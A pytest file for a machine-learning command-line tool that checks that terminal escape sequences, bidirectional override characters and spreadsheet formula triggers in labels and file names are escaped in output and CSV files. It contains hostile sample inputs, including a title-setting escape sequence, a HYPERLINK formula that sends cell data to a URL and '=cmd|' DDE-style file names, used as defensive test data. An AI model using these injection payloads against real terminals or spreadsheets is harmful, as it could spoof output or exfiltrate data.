"""What the command line shows people and spreadsheets: names of strangers obey nobody."""

import csv
import json
import os
import re
import subprocess
import sys
import unicodedata
from errno import ENOSPC
from io import StringIO
from pathlib import Path

import numpy as np
import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

import xpnn
from xpnn._backends.status import BackendStatus
from xpnn._terminal import escaped
from xpnn.cli import main
from xpnn.cli.formulas import SIGNS, as_text, is_formula
from xpnn.data import Images
from xpnn.table import Table

ORDERS = "\x1b]0;OWNED\x07\x1b[2J\t\x7f\x85\x9b31m\u202e\u2067\u200f\u061c\u2028\u2029"
TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def obeyed(c):
    """Whether a terminal does more with a character than to show it, by Unicode's own tables."""
    return (
        unicodedata.category(c) in {"Cc", "Cs", "Zl", "Zp"}
        or unicodedata.bidirectional(c) in TURNING
        or c in "\u200e\u200f\u061c"
    )


def assert_obeys_nobody(text):
    assert [c for c in text if obeyed(c) and c != "\n"] == []


@pytest.fixture(autouse=True)
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


def write_table(path, labels, column="a"):
    with Path(path).open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow([column, "y"])
        writer.writerows([i % 7, labels[i % len(labels)]] for i in range(20))


@pytest.fixture
def hostile(capsys):
    """A table, and a model of it, with orders to the terminal in all names."""
    pytest.importorskip("pandas")
    write_table("d.csv", [f"no{ORDERS}", f"yes{ORDERS}\naccuracy  1.0000 test"], f"a{ORDERS}")
    run("train", "d.csv", "--target", "y", "--epochs", "1", "--hidden", "2")
    return capsys.readouterr()


def run(*arguments):
    try:
        return main(arguments)
    except SystemExit as stopped:  # argparse
        return stopped.code


# ---- escape sequences -------------------------------------------------------


def test_escaped_is_what_unicode_says_is_no_text():
    everything = [chr(i) for i in range(sys.maxunicode + 1)]
    orders = [c for c in everything if obeyed(c)]
    shown = escaped("".join(orders))
    assert shown.isascii()
    assert shown.isprintable()
    assert shown.count("\\") == len(orders)
    text = "".join(c for c in everything if unicodedata.category(c)[0] in "LMNPS")
    assert escaped(text) == text
    assert escaped("\x1b \u202e \udc80 \n é ✓") == r"\x1b \u202e \udc80 \n é ✓"


def test_training_shows_no_orders(hostile):
    assert_obeys_nobody(hostile.out + hostile.err)
    assert r"yes\x1b]0;OWNED\x07" in hostile.out
    assert len(re.findall(r"^accuracy", hostile.out, re.MULTILINE)) == 1


@pytest.mark.parametrize(
    "arguments",
    [
        ("info", "d.safetensors"),
        ("predict", "d.safetensors", "d.csv"),
        ("evaluate", "d.safetensors", "d.csv"),
        ("train", "d.csv", "--target", "q"),
        ("train", "d.csv", "--target", f"a{ORDERS}", "--task", "classification"),
        ("train", f"none{ORDERS}"),
        ("train", f"none{ORDERS}.csv", "--target", "y"),
        ("train", "digits", "-o", f"no/{ORDERS}.safetensors"),
        ("train", "digits", "--hidden", ORDERS),
        ("train", "digits", "--checkpoint", ORDERS),
        ("info", f"none{ORDERS}.safetensors"),
        ("info", f"none{ORDERS}.safetensors", "--debug"),
        ("info", "d.safetensors", f"more\n{ORDERS}"),
        (f"command{ORDERS}",),
        ("demo", ORDERS),
        ("demo", "broadcasting", "--backend", ORDERS),
    ],
)
def test_no_command_shows_orders(arguments, hostile, capsys):
    run(*arguments)
    printed = capsys.readouterr()
    assert printed.out + printed.err
    assert_obeys_nobody(printed.out + printed.err)


def test_export_shows_no_orders(hostile, capsys):
    pytest.importorskip("onnx")
    assert run("export", "d.safetensors", "d.onnx") == 0
    assert_obeys_nobody(capsys.readouterr().out)


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such file names")
def test_names_of_files(hostile, capsys):
    model = f"m\n{ORDERS}\udcff.safetensors"
    Path("d.safetensors").rename(model)
    assert run("predict", model, "d.csv", "-o", f"o{ORDERS}\n") == 0
    assert run("predict", model, f"o{ORDERS}\n") == 2
    assert run("info", f"{model}.none") == 2
    printed = capsys.readouterr()
    assert_obeys_nobody(printed.out + printed.err)
    assert r"m\n\x1b]0;" in printed.err


@pytest.mark.parametrize("command", ["info d.safetensors", "evaluate d.safetensors d.csv"])
def test_json_is_whole_and_ascii(command, hostile, capsys):
    assert run(*command.split(), "--json") == 0
    printed = capsys.readouterr().out
    assert_obeys_nobody(printed)
    assert f"no{ORDERS}" in json.loads(printed)["classes"]


def test_predictions_in_a_file_are_the_labels(hostile):
    assert run("predict", "d.safetensors", "d.csv", "-o", "o.csv") == 0
    with Path("o.csv").open(encoding="utf-8", newline="") as file:
        labels = {row["prediction"] for row in csv.DictReader(file)}
    assert labels <= {f"no{ORDERS}", f"yes{ORDERS}\naccuracy  1.0000 test"}


def test_what_libraries_print_goes_the_same_way(monkeypatch, capsys):
    def noisy():
        print(f"a library says {ORDERS}", file=sys.stderr)
        return [BackendStatus("plug-in", None, usable=False, devices=(), reason=f"no\n{ORDERS}")]

    monkeypatch.setattr("xpnn.cli.backends.backends", noisy)
    assert main(["backends"]) == 0
    printed = capsys.readouterr()
    assert_obeys_nobody(printed.out + printed.err)
    assert len(printed.out.splitlines()) == 2


def test_what_python_shows():
    images = Images(np.zeros((1, 2, 2, 3), np.uint8), np.array([0]), (f"cat\n{ORDERS}",))
    for shown in (Table((ORDERS,), [(f"a\n{ORDERS}",)]), images, xpnn.ArgumentError(ORDERS)):
        assert_obeys_nobody(f"{shown}")
    assert len(f"{images}".splitlines()) == 1


# ---- formulas ---------------------------------------------------------------

TRIGGERS = "=+-@\t\r\n＝＋－＠"
"""OWASP's list, https://owasp.org/www-community/attacks/CSV_Injection."""


@given(st.text(st.sampled_from(f"{TRIGGERS}; 'aé1,\""), max_size=8))
def test_no_cell_begins_a_formula(text):
    assume(text not in SIGNS)
    cell = as_text(text)
    for part in (cell, *re.split(r"[;\t\r\n]", cell)):
        assert part.strip()[:1] not in {*"=+-@＝＋－＠"}
    assert cell[:1] not in set(TRIGGERS)
    assert (cell != text) == is_formula(text)
    assert cell.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(1)", " =1", "a;=1", "\tx", "'=1"])
def test_texts_that_are_formulas(text):
    assert is_formula(text)


@pytest.mark.parametrize(
    "cell", ["a-b", "a=b", "x@y", "<=50K", "", "'a'", "a; b", "+", "-", -1.5, -1, None]
)
def test_cells_that_are_none(cell):
    assert as_text(cell) is cell


def predicted(path):
    with Path(path).open(encoding="utf-8", newline="") as file:
        return [row[0] for row in csv.reader(file)][1:]


def test_labels_that_are_formulas(capsys):
    pytest.importorskip("pandas")
    labels = ['=HYPERLINK("http://example.org/?"&A1,"ok")', "@SUM(1+1)"]
    write_table("d.csv", labels)
    command = ["train", "d.csv", "--target", "y", "--epochs", "2"]
    assert run(*command) == 0
    note = r"note +a spreadsheet program takes these labels for formulas: .*@SUM"
    assert re.search(note, capsys.readouterr().out)
    assert run("info", "d.safetensors") == 0
    assert re.search(note, capsys.readouterr().out)
    assert run("predict", "d.safetensors", "d.csv", "-o", "o.csv") == 0
    assert {cell[:2] for cell in predicted("o.csv")} <= {"'=", "'@"}
    assert {cell.removeprefix("'") for cell in predicted("o.csv")} <= set(labels)
    assert run("predict", "d.safetensors", "d.csv", "-o", "o.csv", "--no-escape-formulas") == 0
    assert set(predicted("o.csv")) <= set(labels)
    assert run("predict", "d.safetensors", "d.csv") == 0
    assert "\n'" in capsys.readouterr().out


def test_numbers_are_no_formulas(capsys):
    pytest.importorskip("pandas")
    for labels in ([-2, -1], [-2.5, -1.25]):
        write_table("d.csv", labels)
        assert run("train", "d.csv", "--target", "y", "--epochs", "1") == 0
        assert "formulas" not in capsys.readouterr().out
        assert run("predict", "d.safetensors", "d.csv", "-o", "o.csv") == 0
        assert all(float(cell) < 1.0 for cell in predicted("o.csv"))


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such file names")
def test_file_names_that_are_formulas(capsys):
    image = pytest.importorskip("PIL.Image")
    for label in "ab":
        Path("pictures", label).mkdir(parents=True)
        for k in range(3):
            image.new("L", (4, 4), k).save(f"pictures/{label}/{k}.png")
    assert run("train", "pictures", "--image-size", "4x4", "--epochs", "1", "--hidden", "") == 0
    Path("=cmd").mkdir()
    for name in ("=cmd|x!A1.png", "\udcff.png"):
        image.new("L", (4, 4)).save(b"=cmd/" + os.fsencode(name), "png")
    assert run("predict", "pictures.safetensors", "=cmd", "-o", "o.csv") == 0
    assert {cell[:2] for cell in predicted("o.csv")} == {"'="}
    assert run("predict", "pictures.safetensors", "=cmd") == 0
    assert run("predict", "pictures.safetensors", "=cmd", "-o", "=cmd/=cmd|x!A1.png") == 2
    assert "expected another file than" in capsys.readouterr().err


# ---- streams that are closed or full ----------------------------------------


class Failing(StringIO):
    """A stream that takes nothing."""

    def __init__(self, error):
        super().__init__()
        self.error = error

    def write(self, text):
        raise self.error


FULL = OSError(ENOSPC, "No space left on device")


@pytest.mark.parametrize(
    "error", [FULL, BrokenPipeError(), BlockingIOError(), ValueError("closed")]
)
@pytest.mark.parametrize("stream", ["stdout", "stderr"])
def test_a_training_outlives_its_streams(stream, error, monkeypatch):
    monkeypatch.setattr(sys, stream, Failing(error))
    assert run("train", "moons", "--epochs", "2", "--hidden", "2") == 0
    assert Path("moons.safetensors").is_file()
    assert run("train", "none") == 2
    assert run("evaluate", "moons.safetensors", "moons", "--json") == 0
    assert isinstance(getattr(sys, stream), Failing)


def test_streams_that_do_not_exist(monkeypatch):
    for name in ("stdin", "stdout", "stderr"):
        monkeypatch.setattr(sys, name, None)
    assert run("train", "moons", "--epochs", "2", "--hidden", "2") == 0
    assert run("predict", "moons.safetensors", "moons") == 0
    assert run("--help") == 0
    assert run("train") == 2
    for name in ("stdin", "stdout", "stderr"):
        getattr(sys, name).close()


def test_predictions_that_are_lost_are_an_error(monkeypatch, capsys):
    assert run("train", "moons", "--epochs", "1", "--hidden", "2") == 0
    capsys.readouterr()
    with monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", Failing(FULL))
        assert run("predict", "moons.safetensors", "moons") == 2
        patch.setattr(sys, "stdout", Failing(BrokenPipeError()))
        assert run("predict", "moons.safetensors", "moons") == 0
    assert capsys.readouterr().err == "xpnn: error: standard output: No space left on device\n"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_python_finds_nothing_to_complain_of_at_its_end(xpnn_process):
    done = xpnn_process("demo broadcasting > /dev/full")
    assert (done.returncode, done.stderr) == (0, "")
    done = xpnn_process("train moons --epochs 1 -o m.safetensors >&- 2>&- <&-")
    assert done.returncode == 0
    assert Path("m.safetensors").is_file()


@pytest.fixture
def xpnn_process():
    def call(command):
        shell = ["sh", "-c", f'"{sys.executable}" -m xpnn {command}']
        return subprocess.run(shell, capture_output=True, text=True, check=False)

    return call
